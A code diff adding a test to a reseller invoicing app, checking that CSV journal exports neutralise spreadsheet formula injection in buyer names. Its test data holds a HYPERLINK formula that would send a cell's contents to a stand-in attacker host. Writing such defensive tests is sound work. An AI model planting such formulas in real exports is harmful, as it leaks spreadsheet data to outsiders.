@@ -97,3 +97,31 @@ def test_the_cli_exports_the_journal(app, month_of_sales, tmp_path):
     assert month_of_sales["se"].number in target.read_text()
     bad = app.test_cli_runner().invoke(args=["invoices", "export", "--month", "nope"])
     assert bad.exit_code == 2 and "YYYY-MM" in bad.output
+
+
+def test_a_buyer_name_a_spreadsheet_would_run_is_text_in_the_journal(factory):
+    """A company name like ``=HYPERLINK(…)`` is an apostrophe-prefixed text cell (OWASP's
+    CSV-injection advice); the amounts of a credit note still read as negative numbers."""
+    from reseller.accounts.identity import vat_status
+    from reseller.billing.invoicing import buyer_of, invoicing_settings
+
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"Invoice")'
+    reseller = factory.reseller(company_name=formula, language="en", **BUYERS["fi"])
+    fund(reseller.id, "100.00")
+    at("2026-10-05T09:00:00")
+    buy(reseller, "kaava.fi", "10.00")
+    with unit_of_work():
+        invoice = monthly.issue_month(
+            reseller_id=reseller.id, month=Month.parse("2026-10"), buyer=buyer_of(reseller),
+            vat_status=vat_status(reseller.country, reseller.vat_id), language="en",
+            payment_mode="prepaid", settings=invoicing_settings(),
+            now=at("2026-11-01T00:05:00"))
+    with unit_of_work():
+        invoices.issue_credit_note(reseller_id=reseller.id, invoice_number=invoice.number,
+                                   reason="Wrong price", now=at("2026-11-02T10:00:00"),
+                                   line_positions=[1])
+    rows = list(csv.DictReader(io.StringIO(reports.journal_csv(Month.parse("2026-11")))))
+    assert {row["buyer"] for row in rows} == {"'" + formula}
+    assert [row["total"] for row in rows] == ["-12.55", "12.55"]
+    for row in rows:
+        assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in row.values())
